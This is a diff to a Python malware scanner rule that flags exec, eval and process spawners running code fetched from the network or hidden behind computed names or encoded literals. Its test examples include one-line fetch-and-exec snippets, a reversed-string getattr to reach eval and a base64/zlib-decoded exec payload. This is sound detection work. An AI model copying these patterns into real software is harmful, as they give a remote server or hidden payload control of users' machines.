@@ -10,10 +10,12 @@ from datasec_scan import fallback
 from datasec_scan.model import Category, Confidence, Severity
 from datasec_scan.rule import Example, Rule
 from datasec_scan.semantics.constants import fold_str
+from datasec_scan.semantics.names import COMPUTED
 
 from . import _prescreen as ps
 from ._credentials import in_test_path
 from ._remote import (
+    CODE_SINKS,
     DECODED,
     DECODERS,
     DESER_SINKS,
@@ -45,6 +47,14 @@ _MADE_EXECUTABLE = ("VirtualAlloc", "VirtualProtect", "PAGE_EXECUTE", "PROT_EXEC
 _JUMPED_INTO = ("CFUNCTYPE", "WINFUNCTYPE", "CreateThread")
 _PATH_BUILDERS = frozenset({"os.path.join", "posixpath.join", "ntpath.join", "pathlib.Path", "pathlib.PurePath",
                             "pathlib.Path().joinpath", "os.path.abspath", "os.path.dirname"})
+# Programs that run what their arguments say (shells, interpreters, launchers); a fixed program not among them
+# (`["yt-dlp", url]`, `["ffmpeg", "-i", url]`) is given fetched data as its input, not as a command to run.
+_RUNS_ITS_ARGUMENTS = frozenset({
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "busybox", "cmd", "powershell", "pwsh", "python", "python2", "python3",
+    "py", "pythonw", "perl", "ruby", "node", "php", "lua", "osascript", "wscript", "cscript", "mshta", "rundll32",
+    "regsvr32", "sudo", "su", "doas", "env", "xargs", "nohup", "setsid", "timeout", "nice", "start", "schtasks",
+    "ssh", "script", "expect", "tclsh", "awk", "gawk", "find",
+})
 _MAX_COMMAND_STEPS = 12  # fetch -> variables -> a helper or two -> spawn; longer trips are incidental data
 # Decoders that hide text (not `codecs.decode(b, "utf-8")` or `reversed`): code a file or variable holds in one of
 # these forms was encoded so that a reader of the package would not see it.
@@ -112,7 +122,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
     Finds `exec`, `eval`, `compile`, `runpy.run_path`, `types.FunctionType`, `pickle.loads`,
     `marshal.loads`, `dill`/`cloudpickle`/`joblib` loads and `yaml.load` with an unsafe loader,
     and asks where their argument comes from; also shell and process spawners whose command is
-    fetched from the network (critical) or decoded from a hidden literal (high), and code encrypted
+    fetched from the network (critical; not an argument list whose program is written in the code
+    and does not run its arguments, `["yt-dlp", url]`) or decoded from a hidden literal (high), and code encrypted
     with PyArmor (`__pyarmor__(..., b"...")`, medium: it cannot be reviewed). The code of
     `python -c CODE` (the interpreter named or `sys.executable`) is judged like an `exec` of it,
     and fetched or decoded bytes copied with `RtlMoveMemory`/`memmove` into memory the file
@@ -121,7 +132,9 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
     request data DS109.) The severity follows that provenance:
 
     - data fetched with `requests`, `httpx`, `urllib`, `http.client`, `aiohttp`, read from a
-      socket or a DNS TXT record: **critical**;
+      socket or a DNS TXT record, the text of a chat bot's incoming message (`message.content` in a
+      module importing discord.py, a Telegram or Slack bot library), or bytes read through
+      `io.BytesIO` from any of these (an image fetched and decoded): **critical**;
     - a literal the code decodes first (base64/32/85, hex, zlib/gzip/bz2/lzma, rot13, reversal,
       `chr`-joins, `\\x` escapes, XOR loops, Fernet with a literal key): **high**; the decoded
       payload is parsed and scanned, and what it does is reported at the literal;
@@ -131,12 +144,17 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
     - code built at run time by the module's own functions or classes from a long opaque literal
       (64+ integers, character codes written as text, 120+ characters without whitespace) through
       steps the scanner cannot decode, as class-based obfuscators do: **high**, medium confidence;
+    - code the scanner cannot show, run by a sink named through a string the module computes
+      (`getattr(builtins, "cexe"[::-1])(blob)`; a plain `getattr(builtins, "exec")` is not hidden):
+      **high**, medium confidence;
     - a constant: nothing (`exec("1+1")` is not a backdoor).
 
     Names are resolved through aliases and dynamic tricks (`getattr(builtins, 'ex'+'ec')`,
-    `__import__('marshal').loads`, `globals()['eval']`), and data is followed through variables
-    and helper functions of the same module; a decoder in a helper or a lambda
-    (`unpack = lambda s: b64decode(s)`) is decoded with the literal its caller passes.
+    `__import__('marshal').loads`, `globals()['eval']`, a one-expression helper that returns the
+    sink, `pick('cexe')`), and data is followed through variables and helper functions of the same
+    module; a decoder in a helper or a lambda (`unpack = lambda s: b64decode(s)`) is decoded with
+    the literal its caller passes. A sink started as a thread or process target, registered with
+    `atexit` or bound to its payload by `functools.partial(exec, code)` runs that payload.
 
     ## Why is this bad?
     Executing what a server sends turns every machine running the package into a remote-controlled
@@ -175,6 +193,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         "import ast\nvalue = ast.literal_eval(text)\n",
         "import yaml\ncfg = yaml.safe_load(open('cfg.yml'))\n",
         "import json, requests\ndata = json.loads(requests.get('https://example.com/x').text)\n",
+        "import functools, requests\nshow = functools.partial(print, requests.get('https://example.com/x').text)\n",
+        "import builtins\ndef load(blob):\n    getattr(builtins, 'exec')(blob)\n",
         "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import sys; print(sys.version)'])\n",
         "import ctypes, socket\ns = socket.create_connection(('example.com', 80))\n"
         "buf = ctypes.create_string_buffer(s.recv(64))\nflags = buf.raw[0] & 0x40\n",
@@ -190,6 +210,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         "\"import urllib.request as u; exec(u.urlopen('https://example.com/s').read())\"])\n",
         "import base64, zlib\ndef unpack(b):\n    return zlib.decompress(base64.b64decode(b[::-1]))\n"
         "exec(unpack(b'==w0IE0gAIA5XHFTPDV1NnkLs46KW/iym/CyRpyLI3CzLzJe'))\n",
+        "import functools, requests\nrun = functools.partial(exec, requests.get('https://example.com/p').text)\n",
+        "import builtins\ndef load(blob):\n    getattr(builtins, 'lave'[::-1])(blob)\n",
         "class K:\n    def __init__(self, d):\n        self.d = d\n    def __call__(self):\n        return bytes(self.d)\n"
         "exec(K([" + ", ".join(["105"] * 64) + "])().decode())\n",
     )
@@ -287,7 +309,8 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         decoded = [p for p in (an.decoded(part) for part in parts) if p is not None and p.layers]
         peeled = decoded[0] if decoded else an.decoded(command)
         hidden = peeled is not None and bool(set(peeled.layers) - _HIDING - {"escapes"})
-        if NETWORK in sources and not self._incidental(sources[NETWORK].steps, an):
+        if NETWORK in sources and not self._incidental(sources[NETWORK].steps, an) and not (
+                spawn[0] == "argv" and self._fixed_program(command, an)):
             label, severity, confidence = NETWORK, Severity.CRITICAL, Confidence.HIGH
             message = f"{spawn[1]} runs a command {LABEL_TEXT[NETWORK]}"
         elif hidden or DECODED in sources:
@@ -303,6 +326,17 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
             return
         self.report(node, message, severity=severity, confidence=confidence,
                     flow=sources[label].steps + ((node, f"sink: {spawn[1]}"),))
+
+    @staticmethod
+    def _fixed_program(command: cst.BaseExpression, an: Analyzer) -> bool:
+        """An argument list whose program is written in the code and does not run its arguments as commands."""
+        if not isinstance(command, (cst.List, cst.Tuple)) or not command.elements:
+            return False
+        program = fold_str(command.elements[0].value, an.names)
+        if not program:
+            return False
+        name = program.replace("\\", "/").rsplit("/", 1)[-1].lower().removesuffix(".exe")
+        return name.rstrip("0123456789.") not in _RUNS_ITS_ARGUMENTS
 
     @staticmethod
     def _incidental(steps: tuple[tuple[cst.CSTNode, str], ...], an: Analyzer) -> bool:
@@ -340,6 +374,20 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
             if flag is None or not flag.startswith("-"):
                 return None  # `python script.py -c x`: the -c belongs to the script
         return None
+
+    @staticmethod
+    def _computed_sink(node: cst.Call, an: Analyzer) -> cst.BaseExpression | None:
+        """`getattr(builtins, "cexe"[::-1])(x)`, `partial(vars(builtins)[_k("val")], x)`: the expression naming a code
+        sink through a string the module computes, if any. Code that means to run something names `exec`."""
+        sink = node.func
+        if an.call_names(node).isdisjoint(CODE_SINKS):
+            flow = an.flow()
+            started = flow.indirect(node) if flow is not None else None
+            if started is None:
+                return None
+            sink = started[0]
+        names = an.names.qualified_names(sink)
+        return sink if any(COMPUTED + name in names for name in CODE_SINKS & names) else None
 
     def _check_opaque(self, node: cst.Call, sink: str, arg: cst.BaseExpression, an: Analyzer) -> None:
         """`exec(Kramer("8936/8940/...", 8831)())`: code built at run time, by functions or classes of the module, from
@@ -419,7 +467,12 @@ class ExecOfUntrustedPayload(ps.CodeScreen, Rule):
         if not sources and kind == "deserialize" and peeled is not None and "marshal" in qualified:
             sources[DECODED] = None  # type: ignore[assignment]  # marshal of a literal: hidden code objects
         if not sources:
-            if kind == "code" and not nested:
+            computed = self._computed_sink(node, an) if kind == "code" and payload is None else None
+            if computed is not None:
+                self.report(node, f"{sink} reached through a name the code computes (`{code_of(computed, 60)}`) runs "
+                            f"`{code_of(arg, 60)}`: the sink is hidden, and so is what it runs", severity=Severity.HIGH,
+                            confidence=Confidence.MEDIUM, flow=((computed, "sink name computed"), (node, f"sink: {sink}")))
+            elif kind == "code" and not nested:
                 self._check_opaque(node, sink, arg, an)
             return
         label = max(sources, key=lambda lab: (_SEVERITY[lab], lab))
